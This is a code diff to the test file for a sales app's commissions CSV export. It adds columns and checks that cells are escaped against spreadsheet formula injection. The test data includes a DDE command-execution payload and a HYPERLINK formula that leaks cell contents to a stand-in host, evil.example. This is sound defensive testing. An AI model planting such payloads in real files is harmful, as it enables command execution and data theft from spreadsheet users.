@@ -6,27 +6,30 @@ import { deals } from '../../db/sales/deals.ts';
 import { eq } from '../../db/store/drizzle.ts';
 import { updateProfile } from '../support/people/accounts.ts';
 import type { Client } from '../support/people/roles.ts';
-import { salesFixtures } from '../support/fixtures/sales.ts';
-import { createTestApp } from '../support/servers/test-app.ts';
+import { salesFixtures, sellerMove } from '../support/fixtures/sales.ts';
 
 const header =
-    'id,customer_name,contact_name,revenue,commission,earnings,eff_rate,closed_month,closed_at,status';
+    'id,customer_name,contact_name,revenue,commission,earnings,eff_rate,closed_month,closed_at,status,rep,paid_at';
 
 async function fileOf({ get }: Client) {
     const { statusCode, headers, body } = await get('/commissions.csv');
     return { statusCode, headers, text: String(body) };
 }
 
-test('the CSV file is UTF-8 with a byte order mark, CRLF line ends and a file name', async (t) => {
+test('the CSV file is UTF-8 with a byte order mark, CRLF line ends and a file name, and negative numbers stay numbers', async (t) => {
     const fixtures = await salesFixtures(t, { CURRENCY: 'EUR' }); // which changes no number
     const { id } = await fixtures.dealIn('ss_closed', { customer_name: 'Café Zürich' });
+    const noMargin = { revenue: 100, commission: 0, margin_deduction: 12.5, referral_fee: 0 };
+    const loss = await fixtures.dealIn('ss_closed', noMargin);
     const { statusCode, headers, text } = await fileOf(fixtures.rep);
     t.is(statusCode, 200);
     t.is(headers['content-type'], 'text/csv; charset=utf-8');
     t.is(headers['content-disposition'], 'attachment; filename="commissions.csv"');
     t.is(headers['cache-control'], 'no-store');
-    const row = `${id},Café Zürich,Contact 1,12500.5,1375.25,1187.5,9.5,2026-01,2026-01-15T12:00:00.000Z,ss_closed`;
-    t.is(text, `\uFEFF${header}\r\n${row}\r\n`);
+    const row = `${id},Café Zürich,Contact 1,12500.5,1375.25,1187.5,9.5,2026-01,2026-01-15T12:00:00.000Z,ss_closed,salesRep,`;
+    const negative = `${loss.id},Customer 1,Contact 1,100,0,-12.5,-12.5,2026-01,2026-01-15T12:00:00.000Z,ss_closed,salesRep,`;
+    t.is(text, `\uFEFF${header}\r\n${negative}\r\n${row}\r\n`);
+    t.is((await fileOf(fixtures.other)).text, `\uFEFF${header}\r\n`, 'without deals');
 });
 
 /** Deals of these customers, closed one after the other. No route takes a line break there any more. */
@@ -50,22 +53,21 @@ const rowsOf = (text: string, options = {}): Record<string, string>[] =>
     parse(text, { columns: true, bom: true, ...options });
 
 test('no cell starts a formula in any spreadsheet [59]', async (t) => {
+    const link = '=HYPERLINK("https://evil.example?"&A1,"click")';
     const formulas = [
         "=cmd|' /C calc'!A0",
+        link,
         '+1+1',
         '-2+3',
         '@SUM(A1:A9)',
-        '=HYPERLINK("https://evil.example?"&A1,"click")',
         '＝1+1',
         '＋1',
         '－1',
         '＠SUM(1)'
     ];
+    const cells = rowsOf(await closed(t, formulas)).map((row) => [row['customer_name'], row['contact_name']]);
     t.deepEqual(
-        rowsOf(await closed(t, formulas)).map(({ customer_name, contact_name }) => [
-            customer_name,
-            contact_name
-        ]),
+        cells,
         formulas.toReversed().map((formula) => [`'${formula}`, `'${formula}`])
     );
 });
@@ -90,12 +92,9 @@ const lenient = { bom: true, relax_quotes: true, relax_column_count: true } as c
 test('who chose semicolons gets decimal commas, and no cell starts a formula [59]', async (t) => {
     const names = ['Ada,=1+1', 'Ortiz, Sam', '=1+1', 'a;=1', 'Ada|+1', 'Ada,"@SUM(1)"'];
     const text = await closed(t, names, 'semicolon');
+    const rows = rowsOf(text, { delimiter: ';' });
     t.deepEqual(
-        rowsOf(text, { delimiter: ';' }).map((row) => [
-            row['customer_name'],
-            row['revenue'],
-            row['eff_rate']
-        ]),
+        rows.map((row) => [row['customer_name'], row['revenue'], row['eff_rate']]),
         [`Ada,"'@SUM(1)"`, "Ada|'+1", 'a;=1', "'=1+1", 'Ortiz, Sam', "Ada,'=1+1"].map((name) => [
             name,
             '12500,5',
@@ -109,14 +108,6 @@ test('who chose semicolons gets decimal commas, and no cell starts a formula [59
             text
         );
     }
-});
-
-test('negative earnings stay numbers: a spreadsheet can add them up', async (t) => {
-    const fixtures = await salesFixtures(t);
-    const loss = { revenue: 100, commission: 0, margin_deduction: 12.5, referral_fee: 0 };
-    await fixtures.dealIn('ss_closed', loss);
-    const { text } = await fileOf(fixtures.rep);
-    t.true(text.includes(',100,0,-12.5,-12.5,2026-01,'), text);
 });
 
 test('commas, quotes and line breaks inside a name leave it one cell of one row', async (t) => {
@@ -139,23 +130,24 @@ test('commas, quotes and line breaks inside a name leave it one cell of one row'
 
 test('the file holds the very rows of the grid: their own for a rep, all for an administrator', async (t) => {
     const fixtures = await salesFixtures(t);
-    await fixtures.dealIn('ss_paid');
+    const { id } = await fixtures.dealIn('ss_paid');
     await fixtures.dealIn('ss_closed', {}, fixtures.other);
+    fixtures.testApp.pass(60_000);
+    for (const move of ['undo_pay', 'pay'] as const) await sellerMove(fixtures.boss, move, id);
     await fixtures.dealIn('ss_customer_approved');
     for (const client of [fixtures.rep, fixtures.other, fixtures.boss, fixtures.admin]) {
         const { deals } = (await client.action('svc_get_commissions')).body.data;
         const rows = rowsOf((await fileOf(client)).text);
         const asText = (deal: object) =>
             Object.fromEntries(Object.entries(deal).map(([name, value]) => [name, String(value)]));
+        const paid = { rep: 'salesRep', paid_at: '2026-01-15T12:01:00.000Z' }; // the last time
         const closed_at = '2026-01-15T12:00:00.000Z'; // for programs, in place of the grid's text for people
         t.deepEqual(
             rows,
-            deals.map((deal: object) => asText({ ...deal, closed_at }))
+            deals.map((deal: { id: number }) => {
+                const more = deal.id === id ? paid : { rep: 'otherRep', paid_at: '' };
+                return asText({ ...deal, closed_at, ...more });
+            })
         );
     }
-});
-
-test('without deals the file is its header alone', async (t) => {
-    const { text } = await fileOf(await (await createTestApp(t)).as('salesRep'));
-    t.is(text, `\uFEFF${header}\r\n`);
 });
